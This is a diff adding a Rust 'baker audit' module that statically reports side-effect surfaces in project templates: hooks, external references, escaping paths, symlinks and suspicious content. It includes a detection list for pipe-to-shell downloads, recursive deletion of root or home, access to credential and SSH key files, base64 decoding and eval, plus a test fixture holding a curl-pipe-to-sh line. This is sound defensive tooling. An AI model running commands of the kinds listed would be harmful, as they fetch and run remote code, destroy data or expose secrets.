@@ -0,0 +1,434 @@
+//! `baker audit` — statically reports the side-effect surfaces of a template (hooks,
+//! external references, answer-controlled paths and suspicious content) without
+//! running anything.
+
+use crate::{
+    cli::AuditArgs,
+    config::{policy, Config, ConfigV1, LoadOptions, UserConfig},
+    constants::IGNORE_FILE,
+    error::Result,
+    loader::{get_template, git::GitLoader, TemplateSource},
+    renderer::TemplateRenderer,
+    temp::TempDir,
+    template::get_template_engine,
+};
+use regex::Regex;
+use serde_json::json;
+use std::{
+    fmt::Display,
+    path::{Component, Path, PathBuf},
+};
+use walkdir::WalkDir;
+
+/// Files larger than this are not scanned for suspicious content.
+const MAX_SCANNED_FILE_SIZE: u64 = 1024 * 1024;
+
+/// Content patterns worth a reviewer's attention, with their severity.
+const SUSPICIOUS_PATTERNS: &[(&str, Severity, &str)] = &[
+    (
+        r"(curl|wget)[^\n|]*\|\s*(sudo\s+)?(ba|z)?sh\b",
+        Severity::High,
+        "downloads and executes remote code",
+    ),
+    (
+        r"rm\s+-[a-zA-Z]*r[a-zA-Z]*f?\s+(/|~|\$HOME)(\s|$)",
+        Severity::High,
+        "recursively deletes the root or home directory",
+    ),
+    (r"/etc/(passwd|shadow|sudoers)", Severity::High, "accesses system credential files"),
+    (r"(~|\$HOME)/\.ssh|\.ssh/id_", Severity::Warning, "accesses SSH keys"),
+    (r"base64\s+(-d|--decode)", Severity::Warning, "decodes a base64 payload"),
+    (r"chmod\s+(-R\s+)?777", Severity::Warning, "makes files world-writable"),
+    (r"\beval\s*[\(\$`]", Severity::Warning, "evaluates dynamically built code"),
+];
+
+/// Severity of an audit finding.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Severity {
+    Info,
+    Warning,
+    High,
+}
+
+impl Display for Severity {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let s = match self {
+            Severity::Info => "info",
+            Severity::Warning => "warning",
+            Severity::High => "high",
+        };
+        write!(f, "{s}")
+    }
+}
+
+/// A single side-effect surface discovered in the template.
+#[derive(Debug, Clone)]
+pub struct Finding {
+    pub severity: Severity,
+    /// Short category label (`hook`, `reference`, `path`, `content`, `symlink`).
+    pub category: &'static str,
+    /// Path relative to the template root, or the config key the finding refers to.
+    pub location: String,
+    pub message: String,
+}
+
+/// The result of auditing a template.
+#[derive(Debug, Default)]
+pub struct AuditReport {
+    pub findings: Vec<Finding>,
+}
+
+impl AuditReport {
+    fn add(
+        &mut self,
+        severity: Severity,
+        category: &'static str,
+        location: impl Into<String>,
+        message: impl Into<String>,
+    ) {
+        self.findings.push(Finding {
+            severity,
+            category,
+            location: location.into(),
+            message: message.into(),
+        });
+    }
+
+    /// Number of findings with the given severity.
+    pub fn count(&self, severity: Severity) -> usize {
+        self.findings.iter().filter(|f| f.severity == severity).count()
+    }
+}
+
+impl Display for AuditReport {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        if self.findings.is_empty() {
+            return writeln!(f, "No side effects found.");
+        }
+
+        let mut findings: Vec<&Finding> = self.findings.iter().collect();
+        findings.sort_by_key(|f| std::cmp::Reverse(f.severity));
+        for finding in findings {
+            writeln!(
+                f,
+                "[{}] {}: {}: {}",
+                finding.severity, finding.category, finding.location, finding.message
+            )?;
+        }
+        writeln!(
+            f,
+            "\n{} high, {} warning, {} info",
+            self.count(Severity::High),
+            self.count(Severity::Warning),
+            self.count(Severity::Info)
+        )
+    }
+}
+
+/// Main entry point for `baker audit`.
+pub fn run_audit(args: AuditArgs) -> Result<()> {
+    let (template_root, _tmp) = fetch_template_root(&args.template)?;
+
+    let config = Config::load_validated(&template_root, &LoadOptions::default())?;
+
+    let report = audit_template(&template_root, &config)?;
+    print!("{report}");
+    Ok(())
+}
+
+/// Resolves a template source for read-only inspection.
+///
+/// Git templates are cloned into a temporary directory that is removed when the
+/// returned guard is dropped.
+pub(crate) fn fetch_template_root(template: &str) -> Result<(PathBuf, Option<TempDir>)> {
+    let user_config = UserConfig::load()?;
+    let template = user_config.resolve_alias(template);
+    if GitLoader::<&str>::is_git_url(template) {
+        policy::check_source(&TemplateSource::Git(template.to_string()))?;
+        let tmp = TempDir::new("clone")?;
+        let loaded = GitLoader::new(template.to_string(), true)
+            .with_settings(user_config.git.clone())
+            .load_into_parent(tmp.path())?;
+        Ok((loaded.root, Some(tmp)))
+    } else {
+        Ok((get_template(template, true)?.root, None))
+    }
+}
+
+/// Statically inspects `template_root` and returns every finding.
+pub fn audit_template(template_root: &Path, config: &ConfigV1) -> Result<AuditReport> {
+    let mut report = AuditReport::default();
+    let engine = get_template_engine();
+
+    audit_hooks(template_root, config, &engine, &mut report)?;
+    audit_references(template_root, config, &mut report)?;
+    audit_entries(template_root, &mut report)?;
+
+    Ok(report)
+}
+
+/// Reports hook scripts, their interpreters and configured runners.
+fn audit_hooks(
+    template_root: &Path,
+    config: &ConfigV1,
+    engine: &dyn TemplateRenderer,
+    report: &mut AuditReport,
+) -> Result<()> {
+    let hooks = [
+        ("pre", &config.pre_hook_filename, &config.pre_hook_runner),
+        ("post", &config.post_hook_filename, &config.post_hook_runner),
+    ];
+
+    for (stage, filename, runner) in hooks {
+        let filename = engine.render(filename, &json!({}), Some(filename))?;
+        let hook_path = template_root.join("hooks").join(&filename);
+        let location = format!("hooks/{filename}");
+        if !hook_path.exists() {
+            continue;
+        }
+
+        let interpreter = if !runner.is_empty() {
+            format!("runner '{}'", runner.join(" "))
+        } else {
+            match std::fs::read_to_string(&hook_path)
+                .ok()
+                .and_then(|c| c.lines().next().map(str::to_string))
+                .and_then(|line| line.strip_prefix("#!").map(|s| s.trim().to_string()))
+            {
+                Some(shebang) => format!("shebang '{shebang}'"),
+                None => "no shebang, executed directly".to_string(),
+            }
+        };
+        report.add(
+            Severity::Warning,
+            "hook",
+            location,
+            format!("{stage}-hook runs with your user permissions via {interpreter}"),
+        );
+    }
+    Ok(())
+}
+
+/// Reports schema files, import roots and URLs referenced by the configuration.
+fn audit_references(
+    template_root: &Path,
+    config: &ConfigV1,
+    report: &mut AuditReport,
+) -> Result<()> {
+    for (key, question) in &config.questions {
+        let Some(schema_file) = &question.schema_file else {
+            continue;
+        };
+        let location = format!("questions.{key}.schema_file");
+        if escapes_root(Path::new(schema_file)) {
+            report.add(
+                Severity::High,
+                "reference",
+                location,
+                format!("reads schema '{schema_file}' from outside the template"),
+            );
+        } else {
+            report.add(
+                Severity::Info,
+                "reference",
+                location,
+                format!("reads schema '{schema_file}'"),
+            );
+        }
+    }
+
+    if let Some(import_root) = &config.import_root {
+        if escapes_root(Path::new(import_root)) {
+            report.add(
+                Severity::High,
+                "reference",
+                "import_root",
+                format!("imports templates from '{import_root}' outside the template"),
+            );
+        }
+    }
+
+    let url_regex = Regex::new(r#"https?://[^\s"'<>)]+"#).expect("valid url regex");
+    for name in crate::constants::CONFIG_FILENAMES {
+        let Ok(content) = std::fs::read_to_string(template_root.join(name)) else {
+            continue;
+        };
+        for url in url_regex.find_iter(&content) {
+            report.add(
+                Severity::Info,
+                "reference",
+                *name,
+                format!("references URL '{}'", url.as_str()),
+            );
+        }
+    }
+    Ok(())
+}
+
+/// Walks the template and reports answer-controlled paths, symlinks and suspicious content.
+fn audit_entries(template_root: &Path, report: &mut AuditReport) -> Result<()> {
+    let patterns: Vec<(Regex, Severity, &str)> = SUSPICIOUS_PATTERNS
+        .iter()
+        .map(|(pattern, severity, message)| {
+            (Regex::new(pattern).expect("valid audit pattern"), *severity, *message)
+        })
+        .collect();
+    let path_expression = Regex::new(r"^\{\{[^}]*\}\}$").expect("valid path regex");
+
+    for entry in WalkDir::new(template_root)
+        .into_iter()
+        .filter_entry(|e| e.file_name() != ".git")
+        .filter_map(|e| e.ok())
+    {
+        let Ok(relative) = entry.path().strip_prefix(template_root) else {
+            continue;
+        };
+        if relative.as_os_str().is_empty() || relative == Path::new(IGNORE_FILE) {
+            continue;
+        }
+        let location = relative.display().to_string().replace('\\', "/");
+
+        if let Some(Component::Normal(first)) = relative.components().next() {
+            if path_expression.is_match(&first.to_string_lossy()) {
+                report.add(
+                    Severity::Info,
+                    "path",
+                    &location,
+                    "top-level path is taken entirely from answers; baker rejects values that escape the output directory",
+                );
+            }
+        }
+
+        if entry.path_is_symlink() {
+            let target = std::fs::read_link(entry.path())?;
+            let link_dir = relative.parent().unwrap_or(Path::new(""));
+            if escapes_root(&link_dir.join(&target)) {
+                report.add(
+                    Severity::High,
+                    "symlink",
+                    &location,
+                    format!("points outside the template to '{}'", target.display()),
+                );
+            }
+            continue;
+        }
+
+        if !entry.file_type().is_file()
+            || entry.metadata().map(|m| m.len() > MAX_SCANNED_FILE_SIZE).unwrap_or(true)
+        {
+            continue;
+        }
+        let Ok(content) = std::fs::read_to_string(entry.path()) else {
+            continue;
+        };
+        for (regex, severity, message) in &patterns {
+            if let Some(found) = regex.find(&content) {
+                let line = content[..found.start()].matches('\n').count() + 1;
+                report.add(*severity, "content", format!("{location}:{line}"), *message);
+            }
+        }
+    }
+    Ok(())
+}
+
+/// True when a path relative to the template root points outside of it.
+fn escapes_root(path: &Path) -> bool {
+    let mut depth = 0usize;
+    for component in path.components() {
+        match component {
+            Component::RootDir | Component::Prefix(_) => return true,
+            Component::ParentDir if depth == 0 => return true,
+            Component::ParentDir => depth -= 1,
+            Component::Normal(_) => depth += 1,
+            Component::CurDir => {}
+        }
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+    use tempfile::tempdir;
+
+    fn parse_config(raw: &str) -> ConfigV1 {
+        let Config::V1(config) = serde_yaml::from_str(raw).unwrap();
+        config
+    }
+
+    #[test]
+    fn reports_hooks_with_shebang_and_runner() {
+        let dir = tempdir().unwrap();
+        fs::create_dir_all(dir.path().join("hooks")).unwrap();
+        fs::write(dir.path().join("hooks/pre"), "#!/usr/bin/env python3\nprint()\n")
+            .unwrap();
+        fs::write(dir.path().join("hooks/post"), "echo done\n").unwrap();
+        let config =
+            parse_config("schemaVersion: v1\npost_hook_runner: [bash]\nquestions: {}\n");
+
+        let report = audit_template(dir.path(), &config).unwrap();
+        let hooks: Vec<&Finding> =
+            report.findings.iter().filter(|f| f.category == "hook").collect();
+        assert_eq!(hooks.len(), 2);
+        assert!(hooks[0].message.contains("shebang '/usr/bin/env python3'"));
+        assert!(hooks[1].message.contains("runner 'bash'"));
+    }
+
+    #[test]
+    fn reports_external_references() {
+        let dir = tempdir().unwrap();
+        let raw = r#"schemaVersion: v1
+import_root: ../shared
+questions:
+  config:
+    type: json
+    help: "See https://example.com/docs"
+    schema_file: ../schemas/config.json
+"#;
+        fs::write(dir.path().join("baker.yaml"), raw).unwrap();
+
+        let report = audit_template(dir.path(), &parse_config(raw)).unwrap();
+        assert_eq!(report.count(Severity::High), 2);
+        assert!(report
+            .findings
+            .iter()
+            .any(|f| f.message == "references URL 'https://example.com/docs'"));
+    }
+
+    #[test]
+    fn reports_suspicious_content_and_answer_controlled_paths() {
+        let dir = tempdir().unwrap();
+        fs::create_dir_all(dir.path().join("{{ target }}")).unwrap();
+        fs::write(
+            dir.path().join("{{ target }}/install.sh.baker.j2"),
+            "set -e\ncurl -fsSL https://example.com/x.sh | sh\n",
+        )
+        .unwrap();
+        let config = parse_config("schemaVersion: v1\nquestions: {}\n");
+
+        let report = audit_template(dir.path(), &config).unwrap();
+        let content = report.findings.iter().find(|f| f.category == "content").unwrap();
+        assert_eq!(content.severity, Severity::High);
+        assert_eq!(content.location, "{{ target }}/install.sh.baker.j2:2");
+        assert!(report.findings.iter().any(|f| f.category == "path"));
+    }
+
+    #[test]
+    fn escapes_root_tracks_depth() {
+        assert!(!escapes_root(Path::new("subdir/../file.txt")));
+        assert!(escapes_root(Path::new("subdir/../../file.txt")));
+        assert!(escapes_root(Path::new("/etc/passwd")));
+    }
+
+    #[test]
+    fn clean_template_has_no_findings() {
+        let dir = tempdir().unwrap();
+        fs::write(dir.path().join("README.md"), "# Hello\n").unwrap();
+        let config = parse_config("schemaVersion: v1\nquestions: {}\n");
+
+        let report = audit_template(dir.path(), &config).unwrap();
+        assert!(report.findings.is_empty());
+        assert_eq!(report.to_string(), "No side effects found.\n");
+    }
+}